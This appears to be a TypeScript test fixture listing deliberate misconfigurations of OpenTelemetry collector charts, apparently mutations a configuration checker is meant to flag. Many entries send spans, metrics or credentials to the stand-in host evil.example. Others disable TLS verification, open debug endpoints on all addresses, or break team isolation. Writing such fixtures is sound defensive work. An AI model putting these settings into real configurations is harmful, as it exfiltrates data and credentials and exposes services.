/** Collectors that send elsewhere, take too much, ask others, or lose data. */
import { AGENT, CONFIG, GATEWAY, SAMPLER, set } from "../draft";
import type { Tree, Weakening, Weakenings } from "../draft";

const agent = (path: string, value: unknown): Weakening[1] => set(AGENT, `${CONFIG}/${path}`, value);
const gateway = (path: string, value: unknown): Weakening[1] => set(GATEWAY, `${CONFIG}/${path}`, value);
const sampler = (path: string, value: unknown): Weakening[1] => set(SAMPLER, `${CONFIG}/${path}`, value);
const WRITER = "exporters/durable_remote_write";
const SPANS = "exporters/load_balancing~1gateway";
const SAMPLERS = "exporters/load_balancing~1samplers";

/** A further exporter that a pipeline uses. */
const exporter =
  (chart: string, pipeline: string, id: string, settings: Tree): Weakening[1] =>
  (stack) => {
    stack.set(chart, `${CONFIG}/exporters/${id.replace("/", "~1")}`, settings);
    stack.set(chart, `${CONFIG}/service/pipelines/${pipeline}/exporters/+`, id);
  };

/** A further extension that starts. */
const extension =
  (id: string, settings: Tree): Weakening[1] =>
  (stack) => {
    stack.set(AGENT, `${CONFIG}/extensions/${id}`, settings);
    stack.set(AGENT, `${CONFIG}/service/extensions/+`, id);
  };

export const COLLECTOR: Weakenings = {
  "odd-header-literal": [
    "a credential in a header",
    agent(`${WRITER}/headers`, { "X-Auth-Thing": "s3cr3t-value-123456" }),
  ],
  "odd-key-literal": [
    "a credential in an odd setting",
    agent("extensions/bearertokenauth~1remote_write/bearer", "s3cr3t-value-123456"),
  ],
  "tenant-literal": [
    "a second header beside the tenant",
    agent(`${WRITER}/headers`, { "X-Scope-OrgID": "a", Cookie: "x=y" }),
  ],
  "lb-static-away": ["spans leave", agent(`${SPANS}/resolver`, { static: { hostnames: ["evil.example:4317"] } })],
  "lb-dns-away": ["spans leave", agent(`${SPANS}/resolver/dns/hostname`, "evil.example.com")],
  "lb-dns-stranger": ["spans go to another team", agent(`${SPANS}/resolver/dns/hostname`, "gw.shop.svc.cluster.local")],
  "lb-k8s": ["another resolver", gateway(`${SAMPLERS}/resolver`, { k8s: { service: "stranger.shop" } })],
  "lb-samplers-away": ["spans leave", gateway(`${SAMPLERS}/resolver/dns/hostname`, "evil.example.com")],
  "lb-port": ["another port", gateway(`${SAMPLERS}/resolver/dns/port`, "4444")],
  "lb-routing": ["traces are torn apart", gateway(`${SAMPLERS}/routing_key`, "service")],
  "lb-endpoint": ["an endpoint of its own", agent(`${SPANS}/protocol/otlp/endpoint`, "evil.example:4317")],
  "grpc-dns-scheme-away": [
    "spans leave by gRPC's own names",
    exporter(AGENT, "traces", "otlp_grpc/x", { endpoint: "dns:///evil.example:4317", tls: { insecure: true } }),
  ],
  "otlp-http-away": [
    "metrics leave",
    exporter(AGENT, "metrics~1scraped", "otlp_http/x", { endpoint: "https://evil.example" }),
  ],
  "kafka-away": ["metrics leave", exporter(AGENT, "metrics~1scraped", "kafka", { brokers: ["evil.example:9092"] })],
  "file-exporter": [
    "samples in a file",
    exporter(AGENT, "metrics~1scraped", "file", { path: "/var/lib/otelcol/out.json" }),
  ],
  "google-away": [
    "metrics to another project",
    exporter(AGENT, "metrics~1scraped", "googlecloud", { project: "evil" }),
  ],
  "prometheus-exporter": [
    "metrics for everyone",
    exporter(AGENT, "metrics~1scraped", "prometheus", { endpoint: "0.0.0.0:9464" }),
  ],
  "tls-min-1.0": ["an old protocol", agent(`${WRITER}/tls/min_version`, "1.0")],
  "tls-min-unset": ["an older protocol", agent(`${WRITER}/tls/min_version`, undefined)],
  "tls-system-authorities": ["any authority will do", agent(`${WRITER}/tls/ca_file`, undefined)],
  "tls-other-name": ["another server's certificate", agent(`${WRITER}/tls/server_name_override`, "evil.example")],
  "tls-skip": ["the store is not verified", agent(`${WRITER}/tls/insecure_skip_verify`, true)],
  "tls-ciphers": ["weak ciphers", agent(`${WRITER}/tls/cipher_suites`, ["TLS_RSA_WITH_RC4_128_SHA"])],
  "writer-no-auth": ["no login", agent(`${WRITER}/auth`, undefined)],
  "writer-away": ["samples leave, with the password", agent(`${WRITER}/endpoint`, "https://evil.example/api/v1/write")],
  "writer-proxy": ["the same through a proxy", agent(`${WRITER}/proxy_url`, "http://evil.example:3128")],
  "otlp-away-authenticated": [
    "samples leave, with a login",
    exporter(AGENT, "metrics~1scraped", "otlp_http", {
      endpoint: "https://evil.example",
      auth: { authenticator: "bearertokenauth/remote_write" },
    }),
  ],
  "gateway-writer-away": [
    "span metrics leave",
    gateway("exporters/prometheus_remote_write/http/endpoint", "https://evil.example/w"),
  ],
  "in-cluster-stranger": [
    "another team stores the samples",
    agent(`${WRITER}/endpoint`, "https://mimir.shop.svc.cluster.local/api/v1/push"),
  ],
  "in-cluster-stranger-short": ["the same by a short name", agent(`${WRITER}/endpoint`, "https://mimir/api/v1/push")],
  "by-address": ["an address that nobody knows", agent(`${WRITER}/endpoint`, "https://203.0.113.9/api/v1/push")],
  "team-swap": [
    "one team gets the other's traces",
    sampler("exporters/otlp_grpc~1shop/endpoint", "jaeger-default.tracing.svc.cluster.local:4317"),
  ],
  "team-pipeline-swap": ["the same", sampler("service/pipelines/traces~1shop/exporters", ["otlp_grpc/default"])],
  "team-both": ["both", sampler("service/pipelines/traces~1shop/exporters", ["otlp_grpc/shop", "otlp_grpc/default"])],
  "team-filter-removed": [
    "the team gets everybody's traces",
    sampler("service/pipelines/traces~1shop/processors", ["batch/isolate"]),
  ],
  "team-filter-other": ["the other filter", sampler("service/pipelines/traces~1shop/processors/0", "filter/default")],
  "team-filter-empty": ["a filter that drops nothing", sampler("processors/filter~1shop/trace_conditions", ["false"])],
  "team-filter-namespace": [
    "a further namespace",
    sampler("processors/filter~1shop/trace_conditions", [
      'not (resource.attributes["k8s.namespace.name"] == "shop" or resource.attributes["k8s.namespace.name"] == "rivals")',
    ]),
  ],
  "team-filter-default": [
    "the default Jaeger gets the team's traces",
    sampler("processors/filter~1default/trace_conditions", []),
  ],
  "team-filter-default-unused": [
    "the same",
    sampler("service/pipelines/traces~1default/processors", ["batch/isolate"]),
  ],
  "pprof-open": ["memory of the process", extension("pprof", { endpoint: "0.0.0.0:1777" })],
  "zpages-open": ["spans in a page", extension("zpages", { endpoint: "0.0.0.0:55679" })],
  opamp: [
    "a server that changes the configuration",
    extension("opamp", { server: { ws: { endpoint: "wss://evil.example" } } }),
  ],
  "health-open": ["on every address of the node", agent("extensions/health_check/endpoint", "0.0.0.0:13133")],
  "otlp-open": ["on every address of the node", agent("receivers/otlp/protocols/grpc/endpoint", "0.0.0.0:4317")],
  "otlp-open-http": ["the same", gateway("receivers/otlp/protocols/http/endpoint", ":4318")],
  "otlp-cors": ["any page sends spans", agent("receivers/otlp/protocols/http/cors", { allowed_origins: ["*"] })],
  "otlp-metadata": ["headers of senders go on", agent("receivers/otlp/protocols/grpc/include_metadata", true)],
  "metrics-open": [
    "own metrics on every address",
    agent("service/telemetry/metrics/readers/0/pull/exporter/prometheus/host", "0.0.0.0"),
  ],
  "telemetry-away": [
    "own metrics leave",
    agent("service/telemetry/metrics/readers/+", {
      periodic: { exporter: { otlp: { endpoint: "https://evil.example" } } },
    }),
  ],
  "telemetry-traces": ["own spans leave", agent("service/telemetry/traces", { processors: [] })],
  "debug-detailed": ["every span in the log", exporter(AGENT, "traces", "debug", { verbosity: "detailed" })],
  "debug-detailed-sampler": ["the same", exporter(SAMPLER, "traces~1shop", "debug", { verbosity: "detailed" })],
  "debug-log": ["headers in the log", agent("service/telemetry/logs/level", "DEBUG")],
};
